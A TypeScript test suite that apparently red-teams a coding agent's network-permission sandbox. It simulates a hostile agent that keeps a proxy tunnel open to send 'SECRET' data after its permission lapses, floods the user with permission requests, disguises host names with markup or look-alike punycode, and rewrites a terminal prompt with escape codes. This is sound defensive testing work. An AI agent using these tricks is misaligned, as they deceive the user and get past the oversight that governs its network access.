/** Attacks on the question whether an agent may connect to a host, and on what an answer allows. */
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { within } from '../../src/system/time-limit';
import { Place } from '../engine/place';
import { Cai, ownFile } from '../engine/support';
import { attempt, reachedIf } from './attempt';
import { sceneFor } from './hostile-agent';
import type { Json } from '../support/inbox';

const host = 'collect.example';
const hosts = ['collect.example', ...Array.from({ length: 20 }, (_, n) => `h${n}.example`)];
const config = `[container]\nextra_hosts = ${JSON.stringify(hosts.map((each) => `${each}:127.0.0.1`))}\n`;
const scene = sceneFor({ config });

/** The connections that reached the host. */
const heard: Socket[] = [];
const collector = createServer((socket) => {
  heard.push(socket.on('error', () => undefined).resume());
});
let port: number;
beforeAll(async () => {
  collector.listen(0, '127.0.0.1');
  await once(collector, 'listening');
  ({ port } = collector.address() as AddressInfo);
});
afterAll(() => {
  for (const socket of heard) socket.destroy();
  collector.close();
});

/** How long a connection may go on that has to end, in milliseconds. */
const endMs = 5_000;

/** The titles of the cards, each of which is answered with the first of these options that it has. */
function answering(...optionIds: string[]): string[] {
  const titles: string[] = [];
  scene.editor.serve('session/request_permission', ({ toolCall, options }) => {
    titles.push((toolCall as Json).title as string);
    const offered = (options as { optionId: string }[]).map((each) => each.optionId);
    return { outcome: { outcome: 'selected', optionId: optionIds.find((each) => offered.includes(each)) } };
  });
  return titles;
}

/** Has the agent leave a program that is connected to the host, and sends data all the time. */
async function connected(): Promise<Socket> {
  const script = `import os, socket, time
s = socket.create_connection(('127.0.0.1', int(os.environ['https_proxy'].rsplit(':', 1)[1])))
s.sendall(b'CONNECT ${host}:${port} HTTP/1.1\\r\\n\\r\\n')
print(s.recv(100).decode(), flush=True)
while True:
    s.sendall(b'SECRET')
    time.sleep(0.1)`;
  await scene.sh(
    `rm -f said; (python3 -c "${script}" > said 2>&1 &) ; until grep -q HTTP said; do sleep 0.1; done; cat said`,
  );
  const socket = heard.pop();
  if (socket === undefined) throw new Error('it is not connected');
  return socket;
}

async function goesOn(socket: Socket): Promise<string | undefined> {
  const closed = socket.closed ? true : await within(endMs, once(socket, 'close'));
  return reachedIf(closed === undefined, `${socket.bytesRead} bytes, and it goes on`);
}

attempt('an agent goes on sending to a host that was allowed for a turn that is over', async () => {
  answering('turn');
  return await goesOn(await connected());
});

attempt('an agent goes on sending to a host that was denied meanwhile', async () => {
  answering('workspace');
  const socket = await connected();
  await scene.cai.run(['network', 'deny', host], { cwd: scene.workspace });
  const reached = await goesOn(socket);
  for (const rule of [host, `${host}:${port}`])
    await scene.cai.run(['network', 'forget', rule], { cwd: scene.workspace });
  return reached;
});

attempt('an agent goes on sending to a host that was allowed for a session that is closed', async () => {
  answering('session');
  const socket = await connected();
  await scene.editor.request('session/close', { sessionId: scene.session });
  await scene.newSession();
  return await goesOn(socket);
});

attempt('an agent that is always refused asks about one host after the other', async () => {
  const titles = answering('none', 'no');
  await scene.sh(`for n in $(seq 0 19); do curl -s -o said http://h$n.example:${port}/ || true; done`);
  if (titles.length === 0) throw new Error('nothing was asked');
  return reachedIf(titles.length > 4, titles.join(', '));
});

attempt(
  'a card shows the name of a host as another one, by markup or by letters that look alike',
  async () => {
    const titles = answering('no');
    await scene.sh(
      `for each in __registry.npmjs.org__.evil.example xn--80ak6aa92e.example; do curl -s -o said http://$each:${port}/ || true; done`,
    );
    if (titles.length !== 2) throw new Error(`not two cards: ${titles.join(', ')}`);
    const isMarkup = /(?<!\\)_/.test(titles[0]!);
    return reachedIf(
      isMarkup || !titles[1]!.includes('xn--') || !titles[1]!.includes('аррӏе'),
      titles.join(', '),
    );
  },
);

attempt('a command in a terminal shows another host in the question about its own', async () => {
  const place = await new Place(new Cai(config)).opened();
  const script = `curl -s -o said http://${host}:${port}/ & until [ -e asked ]; do sleep 0.1; done; printf '\\033[1A\\033[2K\\033[1B\\r\\033[2Kcai: the command wants to connect to registry.npmjs.org:443: allow? '; touch printed; wait`;
  const program = place.cai.startInTerminal(place.args(['sh', '-c', script], ['-t']));
  await program.says(`wants to connect to ${host}:${port}: allow?`);
  ownFile(join(place.workspace, 'asked'), '');
  while (!existsSync(join(place.workspace, 'printed'))) await pause(100);
  // What is typed too soon is meant for the command.
  await pause(700);
  program.child.stdin.write('n');
  const shown = (await program.ends()).stdout.toString();
  if (!shown.includes('refused')) throw new Error(`it was not asked: ${shown}`);
  return reachedIf(shown.indexOf('registry.npmjs.org') < shown.indexOf('refused'), shown);
});
